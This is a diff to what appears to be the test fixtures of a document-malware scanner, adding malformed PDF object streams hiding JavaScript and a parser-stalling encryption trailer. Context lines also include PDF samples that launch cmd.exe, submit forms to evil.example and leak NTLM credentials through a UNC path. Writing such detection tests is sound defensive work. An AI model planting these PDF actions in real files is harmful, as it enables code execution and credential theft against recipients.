@@ -224,12 +224,18 @@ IN_OFFICE = [
     Hostile("cara.docx", archive({"[Content_Types].xml": "<T/>", "word/a.xml": "<a/>"},
                                  zipfile.ZIP_BZIP2), DAMAGED),
 ]  # fmt: skip
+# Objects in the clear, of which what is said before them says too little.
+LAX = b"<< %s >>\nstream\n5 0 << /S /JavaScript >>\nendstream"
 IN_PDF = [
     Hostile("js.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), ACTS),
     Hostile("js.pdf", pdf(b"<< /S /J#61vaScript /#4aS (x) >>"), ACTS),
     Hostile("js.pdf", pdf(packed(b"5 0 << /S /JavaScript >>")), ACTS),
     Hostile("js.pdf", pdf(packed(b"5 0 << /JS (x) >>", b"/N 1 /First 4")), ACTS),
     Hostile("js.pdf", pdf(b"% stream\n<< /S /JavaScript >>\nendstream"), ACTS),
+    Hostile("js.pdf", pdf(LAX % b"/Type /ObjStm /N 1 /First 4 /Length 0"), ACTS),
+    Hostile("js.pdf", pdf(LAX % b"/Type /ObjStm /N 1 /First 4 /Length -9"), ACTS),
+    Hostile("js.pdf", pdf(LAX % b"/Type /ObjStm /N 1 /First 9 0 R /Length 0"), OPAQUE),
+    Hostile("js.pdf", pdf(LAX % b"/Type 8 0 R /N 1 /First 9 0 R /Length 0"), OPAQUE),
     Hostile("buka.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTS),
     Hostile("kirim.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), ACTS),
     Hostile("ntlm.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>"), ACTS),
@@ -288,6 +294,9 @@ def workbooks() -> bytes:
 
 # Small or large, they would keep a careless inspection at work for many seconds.
 SLOW = {
+    "locks without end": lambda: pdf(
+        b"<< /Filter /Standard /R 9 >>", _full(b"trailer\n<< /Size 1 /Encrypt 2 0 R >>\n")
+    ),
     "brackets that do not close": lambda: pdf(
         b"<< /Type /ObjStm " + _full(b"/Filter[") + b">>\nstream\nx\nendstream"
     ),
